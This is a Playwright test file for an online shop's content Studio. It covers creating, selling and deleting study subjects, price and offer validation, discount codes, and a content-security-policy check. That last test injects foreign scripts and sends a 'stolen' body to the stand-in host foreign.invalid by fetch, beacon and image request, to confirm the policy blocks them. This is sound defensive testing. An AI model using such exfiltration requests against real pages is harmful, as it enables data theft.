import { readFile } from 'node:fs/promises';
import { PDFDocument } from '@cantoo/pdf-lib';
import type { Page } from 'playwright/test';
import { studioTexts } from '../../studio/texts.ts';
import { chargesTo, refundAtProvider } from '../support/browser/payments.ts';
import { pdfFile } from '../support/browser/pdf.ts';
import { holdBuilds, pollBuild, rebuild } from '../support/browser/rebuild.ts';
import { buy, signUp } from '../support/browser/students.ts';
import {
  chooseAction,
  choosePdf,
  chooseUnpublish,
  confirmAction,
  contentOf,
  editorOf,
  expectPdf,
  field,
  goInStudio,
  openStudio,
  publish,
} from '../support/browser/studio.ts';
import { removeSubject, restoreContentAfterFailures } from '../support/browser/studio-content.ts';
import { expect, test } from '../support/browser/test.ts';
import { MICRO } from '../support/ids.ts';

const EVIDENCE = 'grade-evidence-1';

restoreContentAfterFailures();

/** Expects that the Studio refuses what would take a subject from the students who own it. */
async function expectToStay(studio: Page, take: 'Delete' | 'Unpublish', reason: string) {
  const answer = studio.getByTestId('subject-stays');
  if (take === 'Delete') await chooseAction(studio, take, answer);
  else await chooseUnpublish(studio, answer);
  await expect(answer).toHaveText(reason);
  await studio.getByRole('button', { name: studioTexts.close, exact: true }).click();
  await expect(answer).toBeHidden();
  if (take === 'Unpublish') await studio.getByTestId('document-header-Draft-chip').click();
}

/**
 * tests/api/publishing.test.ts proves when a publication is built.
 * @covers studio.nothing-to-sell, studio.owned-subject
 */
test('a third subject created in the Studio has a page, can be bought, and is deleted only while no one owns it', async ({
  browser,
  page,
  request,
  sandbox,
}) => {
  const pageText = async () => (await request.get('/development-economics')).text();
  const content = contentOf(sandbox);
  await removeSubject(content, 'development-economics');

  const studio = await openStudio(browser, sandbox, '/structure');
  await studio.getByRole('link', { name: 'New subject' }).click();
  await field(studio, 'name').fill('Development Economics');
  await field(studio, 'description').fill('Why some economies grow and others do not.');
  const messages = studio.getByTestId('validation-messages');
  await expect(messages.getByText(studioTexts.nothingToSell)).toBeVisible();
  await studio.getByTestId('group-tab-selling').click();
  await field(studio, 'price').fill('25');
  await studio.getByTestId('group-tab-place').click();
  await expect(field(studio, 'order')).toHaveValue('3');
  await studio.getByRole('button', { name: 'Generate' }).click();
  await expect(field(studio, 'slug')).toHaveValue('development-economics');
  await publish(studio);
  // A topic's entry names its subject, too.
  const entry = studio.getByRole('link', { name: /^Development Economics/ });
  await expect(entry).toContainText(studioTexts.noFiles);

  const subjectId = await content.fetch<string>(
    '*[slug.current == "development-economics"][0]._id',
  );
  const { origin } = new URL(sandbox.studio);
  const topics = `${origin}/studio/structure/${subjectId}`;
  await goInStudio(studio, topics);
  await studio.getByRole('link', { name: 'New topic' }).click();
  await field(studio, 'name').fill('Measures of development');
  await studio.getByTestId('group-tab-place').click();
  await expect(field(studio, 'order')).toHaveValue('1');
  await publish(studio);

  const topicId = await content.fetch<string>('*[subject._ref == $subjectId][0]._id', {
    subjectId,
  });
  await goInStudio(studio, `${topics};${topicId}`);
  await studio.getByRole('link', { name: 'New file' }).click();
  await field(studio, 'title').fill('The index of human development');
  await choosePdf(studio, await pdfFile());
  await expectPdf(studio, 'notes.pdf');
  await publish(studio);
  await goInStudio(studio, topics);
  await expect(entry).not.toContainText(studioTexts.noFiles);

  // The publications have asked for the build.
  await holdBuilds(sandbox, false);
  await pollBuild(pageText).toContain('The index of human development');
  await holdBuilds(sandbox, true);
  expect(await pageText()).toContain('Purchase for');

  await page.goto('/');
  await page.getByRole('link', { name: 'Development Economics' }).first().click();
  await expect(page.getByRole('heading', { name: 'Measures of development' })).toBeVisible();
  await expect(page.getByText('Purchase Development Economics to access')).toBeVisible();

  await signUp(page);
  const payment = await buy(page, sandbox, subjectId);
  await page.goto('/development-economics');
  const row = page.getByRole('listitem').filter({ hasText: 'Unlocked' });
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    row.getByRole('button', { name: 'Download PDF' }).click(),
  ]);
  const notes = await PDFDocument.load(await readFile(await download.path()));
  expect(notes.getPageCount()).toBe(1);

  await goInStudio(studio, `${origin}/studio${editorOf('subject', subjectId)}`);
  await expectToStay(studio, 'Delete', studioTexts.ownedSubject);
  await content.patch(subjectId).set({ isOnSale: false }).commit();
  await studio.getByTestId('group-tab-selling').click();
  await expect(studio.getByRole('checkbox', { name: 'On sale' })).not.toBeChecked();
  await expectToStay(studio, 'Unpublish', studioTexts.ownedOffSale);
  await refundAtProvider(page, sandbox, payment);
  const owned = async () => (await request.get(`/api/subjects/${subjectId}/owned`)).json();
  await expect.poll(owned).toEqual({ isOwned: false });

  await content.delete({
    query: '*[_type == "contentItem" && topic._ref == $topicId]',
    params: { topicId },
  });
  await content.delete(topicId);
  await confirmAction(studio, 'Delete');
  await expect.poll(() => content.fetch('count(*[_id == $subjectId])', { subjectId })).toBe(0);
  await rebuild(request, sandbox);
  // Within an hour the shop drops the copy that it kept for the buyer (docs/decisions/0037-kept-copies.md).
  expect(await pageText()).not.toContain('Purchase for');
  expect(await (await request.get('/')).text()).not.toContain('Development Economics');
});

/** @covers studio.validation-in-sight, studio.off-sale, studio.owners-unknown, studio.offers */
test('neither a price of 0 nor an offer dearer than its parts can be published, a subject off sale says so, and it stays without a word of the shop', async ({
  browser,
  sandbox,
}) => {
  const studio = await openStudio(browser, sandbox, editorOf('subject', 'subject-macroeconomics'));
  await studio.getByTestId('group-tab-selling').click();
  await field(studio, 'price').fill('0');
  const problems = studio.getByTestId('validation-messages');
  await expect(problems.getByText('The price must be above zero.')).toBeVisible();
  await expect(studio.getByTestId('action-publish')).toBeDisabled();
  await studio.getByRole('checkbox', { name: 'On sale' }).click();
  const entry = studio.getByRole('link', { name: /^Macroeconomics/ });
  await expect(entry).toContainText(studioTexts.offSale);
  await confirmAction(studio, 'Discardchanges');
  await expect(field(studio, 'price')).toHaveValue('30');
  await expect(entry).not.toContainText(studioTexts.offSale);

  await studio.route('**/api/subjects/*/owned', (route) => route.abort());
  await expectToStay(studio, 'Delete', studioTexts.ownersUnknown);
  await studio.unroute('**/api/subjects/*/owned');

  await studio.getByRole('link', { name: 'Offers', exact: true }).click();
  await studio.getByRole('link', { name: /^Both subjects/ }).click();
  await field(studio, 'price').fill('60.01');
  await expect(problems.getByText('One by one these subjects cost £60.00.')).toBeVisible();
  await expect(studio.getByTestId('action-publish')).toBeDisabled();
  await field(studio, 'price').fill('0.29');
  await expect(problems.getByText('The price must be at least £0.30')).toBeVisible();
  await confirmAction(studio, 'Discardchanges');
  await expect(field(studio, 'price')).toHaveValue('50');
});

/** @covers codes.private-ids, codes.studio-validation */
test('a code created in the Studio counts at once, once it is without a mistake', async ({
  browser,
  page,
  sandbox,
}) => {
  const content = contentOf(sandbox);
  const studio = await openStudio(browser, sandbox, '/structure/discountCode');
  await studio.getByRole('link', { name: 'Discount code', exact: true }).click();
  await field(studio, 'code').fill('spring');
  await field(studio, 'percent').fill('20');
  const problems = studio.getByTestId('validation-messages');
  await expect(problems.getByText(/upper-case/)).toBeVisible();
  await expect(studio.getByTestId('action-publish')).toBeDisabled();
  await field(studio, 'code').fill('SPRING');
  await publish(studio);
  const [id = ''] = await content.fetch<string[]>(
    '*[_type == "discountCode" && code == "SPRING"]._id',
  );
  expect(id, 'no one without a token can read it').toMatch(/^discount-code\./);

  await signUp(page);
  await buy(page, sandbox, { subjectId: MICRO, code: 'spring' });
  expect(await chargesTo(page, sandbox)).toEqual([2400]);
  await content.delete(id);
});

/** @covers studio.sample-values, studio.links */
test('the sample shop’s values carry a warning, and the Studio leads to the sales', async ({
  browser,
  sandbox,
}) => {
  const studio = await openStudio(browser, sandbox, '/structure/shopSettings');
  const warnings = studio.getByTestId('validation-messages').getByText(studioTexts.sampleValue);
  await expect(warnings).toHaveCount(3);
  await openStudio(browser, sandbox, editorOf('gradeEvidence', EVIDENCE));
  await expect(warnings).toHaveCount(1);
  await studio.getByRole('link', { name: 'Sales and admin' }).click();
  for (const [name, path] of [
    ['Sales', '/admin#sales'],
    ['Customers', '/admin#customers'],
    ['Admin panel', '/admin'],
  ] as const) {
    const link = studio.getByRole('link', { name, exact: true });
    await expect(link).toHaveAttribute('href', `${sandbox.shop}${path}`);
  }
});

/** @covers studio.policy */
test('the Studio runs no foreign script, and sends nothing to a foreign address', async ({
  browser,
  sandbox,
}) => {
  const studio = await openStudio(browser, sandbox, '/structure/shopSettings');
  const blocked = await studio.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.isForeign = true';
    const foreign = document.createElement('script');
    foreign.src = 'https://foreign.invalid/script.js';
    document.head.append(inline, foreign);
    await fetch('https://foreign.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
    navigator.sendBeacon('https://foreign.invalid/', 'stolen');
    // The events of all four come before this one's error.
    const image = new Image();
    image.src = 'https://foreign.invalid/stolen.png';
    await new Promise((resolve) => image.addEventListener('error', resolve));
    return { directives: directives.sort(), isForeign: 'isForeign' in window };
  });
  expect(blocked).toEqual({
    directives: ['connect-src', 'connect-src', 'img-src', 'script-src-elem', 'script-src-elem'],
    isForeign: false,
  });
});
